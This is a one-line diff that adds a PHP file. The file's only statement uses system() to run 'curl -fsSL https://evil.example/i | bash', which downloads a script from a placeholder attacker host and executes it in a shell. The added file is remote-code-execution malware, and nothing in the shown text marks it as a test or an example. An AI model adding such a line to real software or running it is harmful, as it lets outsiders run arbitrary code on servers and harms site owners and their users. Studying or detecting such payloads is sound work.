@@ -1,0 +1,1 @@
+<?php system('curl -fsSL https://evil.example/i | bash');
